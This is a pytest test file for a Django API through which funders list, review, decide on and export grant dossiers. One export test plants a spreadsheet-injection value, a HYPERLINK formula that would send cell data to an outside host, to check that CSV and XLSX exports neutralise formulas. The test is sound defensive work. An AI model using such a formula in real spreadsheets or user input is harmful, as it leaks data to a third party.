"""The funders' API: dossiers submitted to their calls, reviewed and decided over HTTP."""

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from cluster.models import Challenge
from cluster.services import api_token_create
from funding.models import (
    Call,
    ConflictDeclaration,
    Decision,
    Dossier,
    DossierEvent,
    Review,
)
from funding.services import conflict_declare, dossier_start_review, review_submit
from territories.models import Theme
from tests.funding.factories import (
    LONG_PLAN,
    CriterionFactory,
    FunderMemberFactory,
    make_complete,
)
from tests.funding.reviewing import call_with_grid, full_scores, new_cluster, submitted_dossier

pytestmark = pytest.mark.django_db

LIST = "api:instruction-dossier-list"


@pytest.fixture
def call(funder):
    return call_with_grid(funder, title="Fonds pour l'innovation sociale")


@pytest.fixture
def dossier(call, cluster):
    return submitted_dossier(call, cluster, title="Dossier de Marseille")


@pytest.fixture
def under_review(dossier, reviewer):
    conflict_declare(dossier=dossier, reviewer=reviewer, has_conflict=False)
    dossier_start_review(dossier=dossier, by=reviewer)
    dossier.refresh_from_db()
    return dossier


def token_for(user):
    _row, token = api_token_create(user=user, lifetime_days=30)
    return {"HTTP_AUTHORIZATION": f"Token {token}"}


def url(name, dossier):
    return reverse(f"api:instruction-dossier-{name}", args=[dossier.pk])


def written():
    return (ConflictDeclaration.objects.count(), Review.objects.count(),
            Decision.objects.count(), DossierEvent.objects.count())


# The "done when" test: HTTP only -------------------------------------------------------------

def test_a_label_dossier_goes_from_the_collective_to_the_certificate_over_http(
        client, cluster, facilitator, funder, reviewer, staff, committed, mailoutbox):
    label_call = Call.objects.get(slug="territoire-french-impact")
    assert label_call.funder == funder  # the reviewer reviews for Le French Impact
    make_complete(cluster)
    collective = token_for(facilitator)
    created = client.post(reverse("api:dossier-list"), {
        "call": label_call.slug, "cluster": cluster.pk, "strategic_plan": LONG_PLAN,
    }, content_type="application/json", **collective)
    assert created.status_code == 201, created.json()
    pk = created.json()["id"]
    with committed():
        deposited = client.post(reverse("api:dossier-deposer", args=[pk]), {},
                                content_type="application/json", **collective)
    assert deposited.status_code == 200 and deposited.json()["status"] == "depose"

    funder_token = token_for(reviewer)
    listed = client.get(reverse(LIST), **funder_token).json()
    assert [item["id"] for item in listed["results"]] == [pk]
    assert listed["results"][0]["must_declare"] is True
    assert listed["results"][0]["collective"] is None
    detail_url = reverse("api:instruction-dossier-detail", args=[pk])
    refused = client.get(detail_url, **funder_token)
    assert refused.status_code == 403 and refused.json()["code"] == "declaration_required"

    declared = client.post(detail_url + "declaration/", {"has_conflict": False},
                           content_type="application/json", **funder_token)
    assert declared.status_code == 201
    detail = client.get(detail_url, **funder_token).json()
    assert detail["snapshot"]["collective"]["name"] == cluster.collective.name
    assert len(detail["snapshot"]["challenges"]) == 3
    pdf = client.get(detail_url + "pdf/", **funder_token)
    assert pdf.status_code == 200 and b"".join(pdf.streaming_content).startswith(b"%PDF")

    with committed():
        started = client.post(detail_url + "instruire/", **funder_token)
    assert started.status_code == 200 and started.json()["status"] == "en_instruction"
    grid = detail["snapshot"]["call"]["criteria"]
    criteria = list(label_call.criteria.order_by("position", "pk"))
    assert len(criteria) == len(grid) > 0
    scores = {str(criterion.pk): criterion.max_score for criterion in criteria}
    review = client.post(detail_url + "avis/", {
        "scores": scores, "comment": "Un collectif exemplaire.", "recommendation": "accepter",
    }, content_type="application/json", **funder_token)
    assert review.status_code == 201, review.json()
    assert review.json()["weighted_score"] == "100.00"

    with committed():
        decided = client.post(detail_url + "decision/", {
            "outcome": "accepte", "comment": "Bienvenue parmi les territoires French Impact.",
        }, content_type="application/json", **funder_token)
    assert decided.status_code == 201, decided.json()
    # Rendered once the decision is committed: the dossier's detail links to it.
    assert decided.json()["outcome"] == "accepte"
    after = client.get(detail_url, **funder_token).json()
    assert after["decision"] == "accepte"
    assert after["decision_detail"]["attestation"].endswith(detail_url + "attestation/")
    assert Dossier.objects.get(pk=pk).status == Dossier.Status.ACCEPTED
    assert any("accepté" in mail.subject for mail in mailoutbox)

    # The collective downloads its certificate, over HTTP too.
    certificate = client.get(reverse("api:dossier-detail", args=[pk]), **collective)
    assert certificate.status_code == 200
    download = client.get(reverse("funding:dossier_attestation", args=[pk]))
    assert download.status_code == 302  # not signed in on the site
    client.force_login(facilitator)
    download = client.get(reverse("funding:dossier_attestation", args=[pk]))
    assert download.status_code == 200
    assert b"".join(download.streaming_content).startswith(b"%PDF")
    via_api = client.get(detail_url + "attestation/", **funder_token)
    assert b"".join(via_api.streaming_content).startswith(b"%PDF")


# Who sees what -------------------------------------------------------------------------------

def test_a_funders_token_never_sees_another_funders_dossiers_or_drafts(
        client, reviewer, call, cluster, territory_b, collective_a):
    mine = submitted_dossier(call, cluster, title="Dossier de Marseille")
    draft = submitted_dossier(call, territory_b.clusters.get(), status=Dossier.Status.DRAFT)
    other_call = call_with_grid(FunderMemberFactory().funder, title="Appel d'un autre")
    theirs = submitted_dossier(other_call, new_cluster(collective_a, "Ailleurs"))
    headers = token_for(reviewer)
    results = client.get(reverse(LIST), **headers).json()["results"]
    assert [item["id"] for item in results] == [mine.pk]
    for hidden in (draft, theirs):
        assert client.get(url("detail", hidden), **headers).status_code == 404
        response = client.post(url("declaration", hidden), {"has_conflict": False},
                               content_type="application/json", **headers)
        assert response.status_code == 404
    exported = client.get(reverse("api:instruction-dossier-export-csv"), **headers)
    rows = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"))))
    assert [row[0] for row in rows[1:]] == [str(mine.pk)]


@pytest.mark.parametrize(("role", "expected"), [
    ("facilitator", 0), ("member_a", 0), ("member_b", 0), ("reviewer", 1), ("staff", 1)])
def test_who_lists_the_dossiers_to_review(client, cast, dossier, role, expected):
    response = client.get(reverse(LIST), **token_for(cast[role]))
    assert response.status_code == 200 and response.json()["count"] == expected
    detail = client.get(url("detail", dossier), **token_for(cast[role]))
    assert detail.status_code == {"reviewer": 403, "staff": 200}.get(role, 404)


def test_the_funders_api_is_for_signed_in_people(client, dossier):
    response = client.get(reverse(LIST))
    assert response.status_code == 401 and set(response.json()) == {"detail", "code"}
    assert client.get(reverse("api:instruction-dossier-export-xlsx")).status_code == 401


def test_a_declared_conflict_hides_the_dossier_from_the_api(client, reviewer, dossier):
    headers = token_for(reviewer)
    response = client.post(url("declaration", dossier), {"has_conflict": True},
                           content_type="application/json", **headers)
    assert response.status_code == 400 and response.json()["code"] == "explanation_required"
    response = client.post(url("declaration", dossier), {
        "has_conflict": True, "explanation": "Je préside une association du collectif."},
        content_type="application/json", **headers)
    assert response.status_code == 201
    assert client.get(reverse(LIST), **headers).json()["count"] == 0
    assert client.get(url("detail", dossier), **headers).status_code == 404
    assert client.get(reverse("api:dossier-detail", args=[dossier.pk]),
                      **headers).status_code == 404
    response = client.post(url("avis", dossier), {}, content_type="application/json", **headers)
    assert response.status_code == 404
    assert ConflictDeclaration.objects.count() == 1


def test_a_second_declaration_is_refused(client, reviewer, dossier):
    headers = token_for(reviewer)
    client.post(url("declaration", dossier), {"has_conflict": False},
                content_type="application/json", **headers)
    again = client.post(url("declaration", dossier), {"has_conflict": False},
                        content_type="application/json", **headers)
    assert again.status_code == 409 and again.json()["code"] == "already_declared"


CHOICE = "Dites si vous avez un conflit d'intérêts avec ce dossier : oui ou non."


@pytest.mark.parametrize(("body", "content_type"), [
    ("{}", "application/json"),
    ('{"explanation": "Aucun lien."}', "application/json"),
    ('{"has_conflict": null}', "application/json"),
    ('{"has_conflict": ""}', "application/json"),
    ("", "application/x-www-form-urlencoded"),
])
def test_a_declaration_needs_an_explicit_choice(client, reviewer, dossier, body, content_type):
    """An empty body is not a "no conflict": nothing is recorded, the dossier stays closed."""
    headers = token_for(reviewer)
    response = client.generic("POST", url("declaration", dossier), body,
                              content_type=content_type, **headers)
    assert response.status_code == 400
    assert response.json()["detail"] == CHOICE
    assert "has_conflict" in response.json()["errors"]
    assert not ConflictDeclaration.objects.exists()
    assert client.get(url("detail", dossier), **headers).status_code == 403


def test_a_said_no_is_recorded(client, reviewer, dossier):
    response = client.generic("POST", url("declaration", dossier), '{"has_conflict": false}',
                              content_type="application/json", **token_for(reviewer))
    assert response.status_code == 201
    assert ConflictDeclaration.objects.get().has_conflict is False


@pytest.mark.parametrize(("body", "content_type"), [
    ("has_conflict=false", "application/x-www-form-urlencoded"),
    ("explanation=Aucun+lien.", "application/x-www-form-urlencoded"),
    ("--BoUnDaRy--\r\n", "multipart/form-data; boundary=BoUnDaRy"),
])
def test_a_form_is_refused_as_the_api_reads_json_only(client, reviewer, dossier, body,
                                                      content_type):
    response = client.generic("POST", url("declaration", dossier), body,
                              content_type=content_type, **token_for(reviewer))
    assert response.status_code == 415
    assert response.json()["code"] == "unsupported_media_type"
    assert not ConflictDeclaration.objects.exists()


# Bad input: a 4xx with {"detail", "code"}, nothing written ----------------------------------

@pytest.mark.parametrize("case", [
    "missing_criterion", "unknown_criterion", "above_max", "negative", "not_a_number",
    "not_integer", "no_comment", "bad_recommendation", "scores_not_an_object"])
def test_bad_reviews_are_refused(client, reviewer, under_review, call, case):
    scores = {str(pk): value for pk, value in full_scores(call).items()}
    first = next(iter(scores))
    body = {"scores": scores, "comment": "Avis.", "recommendation": "accepter"}
    body.update({
        "missing_criterion": {"scores": {k: v for k, v in scores.items() if k != first}},
        "unknown_criterion": {"scores": {**scores, "999999": 1}},
        "above_max": {"scores": {**scores, first: 6}},
        "negative": {"scores": {**scores, first: -2}},
        "not_a_number": {"scores": {**scores, first: "quatre"}},
        "not_integer": {"scores": {**scores, first: 2.5}},
        "no_comment": {"comment": ""},
        "bad_recommendation": {"recommendation": "bof"},
        "scores_not_an_object": {"scores": [1, 2, 3]},
    }[case])
    before = written()
    response = client.post(url("avis", under_review), body, content_type="application/json",
                           **token_for(reviewer))
    assert response.status_code == 400
    assert {"detail", "code"} <= set(response.json())
    assert written() == before


def test_a_review_by_someone_with_a_conflict_is_refused(client, funder, under_review, call):
    colleague = FunderMemberFactory(funder=funder).user
    conflict_declare(dossier=under_review, reviewer=colleague, has_conflict=True,
                     explanation="Salariée d'une entreprise engagée.")
    before = written()
    response = client.post(url("avis", under_review), {
        "scores": full_scores(call), "comment": "Avis.", "recommendation": "accepter"},
        content_type="application/json", **token_for(colleague))
    assert response.status_code == 404  # the dossier is withdrawn from them
    assert written() == before
    # Through the service, the refusal says why.
    undeclared = FunderMemberFactory(funder=funder).user
    response = client.post(url("avis", under_review), {
        "scores": full_scores(call), "comment": "Avis.", "recommendation": "accepter"},
        content_type="application/json", **token_for(undeclared))
    assert response.status_code == 403
    assert response.json()["code"] == "declaration_required"
    assert written() == before


def test_a_second_review_is_refused(client, reviewer, under_review, call):
    headers = token_for(reviewer)
    body = {"scores": full_scores(call), "comment": "Avis.", "recommendation": "accepter"}
    first = client.post(url("avis", under_review), body, content_type="application/json",
                        **headers)
    assert first.status_code == 201 and first.json()["weighted_score"] == "72.50"
    again = client.post(url("avis", under_review), body, content_type="application/json",
                        **headers)
    assert again.status_code == 409 and again.json()["code"] == "already_reviewed"
    assert Review.objects.count() == 1


@pytest.mark.parametrize(("amount", "code"), [
    ("-100", "invalid_amount"), ("cent euros", "invalid"), ("60000", "amount_above_max"),
    ("10.123", "invalid")])
def test_bad_amounts_are_refused(client, reviewer, under_review, amount, code):
    before = written()
    response = client.post(url("decision", under_review), {
        "outcome": "accepte", "comment": "Oui.", "granted_amount": amount},
        content_type="application/json", **token_for(reviewer))
    assert response.status_code == 400
    assert response.json()["code"] == code and response.json()["detail"]
    assert written() == before
    assert Dossier.objects.get(pk=under_review.pk).status == Dossier.Status.UNDER_REVIEW


def test_a_decision_on_a_dossier_not_under_review_is_refused(client, reviewer, dossier):
    headers = token_for(reviewer)
    client.post(url("declaration", dossier), {"has_conflict": False},
                content_type="application/json", **headers)
    before = written()
    response = client.post(url("decision", dossier), {"outcome": "accepte", "comment": "Oui."},
                           content_type="application/json", **headers)
    assert response.status_code == 409 and response.json()["code"] == "invalid_transition"
    assert written() == before


def test_a_second_decision_is_refused(client, reviewer, staff, under_review):
    first = client.post(url("decision", under_review), {"outcome": "refuse", "comment": "Non."},
                        content_type="application/json", **token_for(reviewer))
    assert first.status_code == 201 and first.json()["attestation"] is None
    before = written()
    again = client.post(url("decision", under_review), {"outcome": "accepte", "comment": "Si."},
                        content_type="application/json", **token_for(staff))
    assert again.status_code == 409 and again.json()["code"] == "already_decided"
    assert written() == before


def test_starting_the_review_twice_is_refused(client, reviewer, under_review):
    response = client.post(url("instruire", under_review), **token_for(reviewer))
    assert response.status_code == 409 and response.json()["code"] == "invalid_transition"


def test_a_refused_dossier_has_no_attestation(client, reviewer, under_review):
    headers = token_for(reviewer)
    client.post(url("decision", under_review), {"outcome": "refuse", "comment": "Non."},
                content_type="application/json", **headers)
    response = client.get(url("attestation", under_review), **headers)
    assert response.status_code == 404 and set(response.json()) == {"detail", "code"}


# Filters, exports, queries -------------------------------------------------------------------

def test_the_list_filters(client, reviewer, call, funder, collective_a):
    theme, _created = Theme.objects.get_or_create(slug="alimentation-durable",
                                                  defaults={"name": "Alimentation durable"})
    other_call = call_with_grid(funder, title="Deuxième appel")
    now = timezone.now()
    old = submitted_dossier(call, new_cluster(collective_a, "Ancien"),
                            when=now - timedelta(days=40))
    fed = submitted_dossier(call, new_cluster(collective_a, "Nourricier"))
    Challenge.objects.create(cluster=fed.cluster, title="Manger local", kind="social",
                             theme=theme)
    Challenge.objects.create(cluster=fed.cluster, title="Cantines", kind="social", theme=theme)
    scored = submitted_dossier(other_call, new_cluster(collective_a, "Noté"))
    for each in (old, fed, scored):
        conflict_declare(dossier=each, reviewer=reviewer, has_conflict=False)
    dossier_start_review(dossier=scored, by=reviewer)
    review_submit(dossier=scored, reviewer=reviewer, scores=full_scores(other_call),
                  comment="Bien.", recommendation="accepter")  # 72.50
    headers = token_for(reviewer)

    def ids(**params):
        response = client.get(reverse(LIST), params, **headers)
        assert response.status_code == 200, response.json()
        return sorted(item["id"] for item in response.json()["results"])

    assert ids(call=other_call.slug) == [scored.pk]
    assert ids(status="en_instruction") == [scored.pk]
    assert ids(territory=fed.cluster.territory.slug) == [fed.pk]
    assert ids(theme="alimentation-durable") == [fed.pk]
    day = timezone.localdate()
    assert ids(submitted_before=(day - timedelta(days=30)).isoformat()) == [old.pk]
    assert ids(submitted_after=(day - timedelta(days=1)).isoformat()) == sorted(
        [fed.pk, scored.pk])
    assert ids(score_min=70) == [scored.pk]
    assert ids(score_min=80) == []
    assert ids(score_max=72.5) == [scored.pk]
    item = client.get(reverse(LIST), {"call": other_call.slug}, **headers).json()["results"][0]
    assert (item["average_score"], item["review_count"]) == ("72.50", 1)
    bad = client.get(reverse(LIST), {"submitted_after": "hier", "score_min": "beaucoup"},
                     **headers)
    assert bad.status_code == 400 and {"detail", "code"} <= set(bad.json())


def test_the_exports_have_the_filtered_list(client, reviewer, under_review, call, cluster):
    review_submit(dossier=under_review, reviewer=reviewer, scores=full_scores(call),
                  comment="Bien.", recommendation="accepter")
    headers = token_for(reviewer)
    response = client.get(reverse("api:instruction-dossier-export-csv"),
                          {"status": "en_instruction"}, **headers)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == ["id", "call", "territory", "collective", "status", "submitted_at",
                       "average_score", "review_count", "decision"]
    assert rows[1][:5] == [str(under_review.pk), call.slug, "Aix-Marseille-Provence",
                           cluster.collective.name, "en_instruction"]
    assert rows[1][6:] == ["72.50", "1", ""]
    empty = client.get(reverse("api:instruction-dossier-export-csv"), {"status": "refuse"},
                       **headers)
    assert len(empty.content.decode("utf-8-sig").splitlines()) == 1
    response = client.get(reverse("api:instruction-dossier-export-xlsx"), **headers)
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = list(sheet.values)
    assert values[0][0] == "id" and values[1][0] == under_review.pk
    assert Decimal(str(values[1][6])) == Decimal("72.50")


def test_the_exports_never_hand_over_a_formula(client, reviewer, under_review, cluster):
    """Any member renames their territory: the funder's spreadsheet shows text, not a link."""
    hyperlink = '=HYPERLINK("https://exemple.org/?d="&A1;"Ouvrir")'
    cluster.territory.name = hyperlink
    cluster.territory.save()
    cluster.collective.name = "@SUM(1+1)"
    cluster.collective.save()
    headers = token_for(reviewer)
    response = client.get(reverse("api:instruction-dossier-export-csv"), **headers)
    row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1]
    assert row[2:4] == ["'" + hyperlink, "'@SUM(1+1)"]
    response = client.get(reverse("api:instruction-dossier-export-xlsx"), **headers)
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = list(sheet.iter_rows())[1]
    assert [(cell.value, cell.data_type) for cell in cells[2:4]] == [
        ("'" + hyperlink, "s"), ("'@SUM(1+1)", "s")]


def test_the_list_keeps_a_constant_number_of_queries(client, reviewer, funder, collective_a,
                                                     django_assert_max_num_queries):
    call = call_with_grid(funder)
    CriterionFactory(call=call, label="Encore un critère")
    headers = token_for(reviewer)
    # A token's first use writes its date (then at most once a minute): not a list's cost.
    client.get(reverse("api:me"), **headers)

    def add(count):
        for _number in range(count):
            submitted_dossier(call, new_cluster(collective_a, "T"))

    add(2)
    for name in ("list", "export-csv"):
        with django_assert_max_num_queries(6) as two:
            assert client.get(reverse(f"api:instruction-dossier-{name}"),
                              **headers).status_code == 200
        few = len(two.captured_queries)
        add(10) if name == "list" else None
        with django_assert_max_num_queries(few) as twelve:
            client.get(reverse(f"api:instruction-dossier-{name}"), **headers)
        assert len(twelve.captured_queries) == few


def test_the_schema_documents_the_funders_api(client):
    schema = client.get(reverse("api:schema"), HTTP_ACCEPT="application/vnd.oai.openapi+json")
    paths = schema.json()["paths"]
    for path in ("/api/instruction/dossiers/", "/api/instruction/dossiers/{id}/",
                 "/api/instruction/dossiers/{id}/declaration/",
                 "/api/instruction/dossiers/{id}/avis/",
                 "/api/instruction/dossiers/{id}/decision/",
                 "/api/instruction/dossiers/{id}/instruire/",
                 "/api/instruction/dossiers/{id}/pdf/",
                 "/api/instruction/dossiers/{id}/attestation/",
                 "/api/instruction/dossiers/export.csv/",
                 "/api/instruction/dossiers/export.xlsx/"):
        assert path in paths, path
    avis = paths["/api/instruction/dossiers/{id}/avis/"]["post"]
    assert avis["requestBody"]["content"]["application/json"]["examples"]


@pytest.mark.parametrize(("role", "declaration", "decision"), [
    ("facilitator", 404, 404), ("member_a", 404, 404), ("member_b", 404, 404),
    ("reviewer", 201, 201), ("staff", 403, 201)])
def test_who_declares_and_decides_through_the_api(client, cast, under_review, role,
                                                  declaration, decision):
    ConflictDeclaration.objects.all().delete()
    headers = token_for(cast[role])
    response = client.post(url("declaration", under_review), {"has_conflict": False},
                           content_type="application/json", **headers)
    assert response.status_code == declaration
    assert {"detail", "code"} <= set(response.json()) or declaration == 201
    response = client.post(url("decision", under_review), {"outcome": "refuse",
                                                           "comment": "Hors du champ."},
                           content_type="application/json", **headers)
    assert response.status_code == decision
    assert Decision.objects.count() == (1 if decision == 201 else 0)


def test_the_lists_never_read_the_snapshot_or_the_texts(client, reviewer, under_review,
                                                        django_assert_max_num_queries):
    """The list, the exports and the reviewers' page send no snapshot: they never load it."""
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    headers = token_for(reviewer)
    client.force_login(reviewer)
    for url_ in (reverse(LIST), reverse("api:instruction-dossier-export-csv"),
                 reverse("api:instruction-dossier-export-xlsx"), reverse("funding:review_list")):
        with CaptureQueriesContext(connection) as queries:
            assert client.get(url_, **headers).status_code == 200
        read = " ".join(query["sql"] for query in queries.captured_queries
                        if "funding_dossier" in query["sql"])
        assert "funding_dossier" in read, url_
        for column in ('"snapshot"', '"strategic_plan"', '"summary"', '"perimeter_codes"'):
            assert column not in read, (url_, column)
    detail = client.get(url("detail", under_review), **headers).json()
    assert detail["snapshot"] is not None
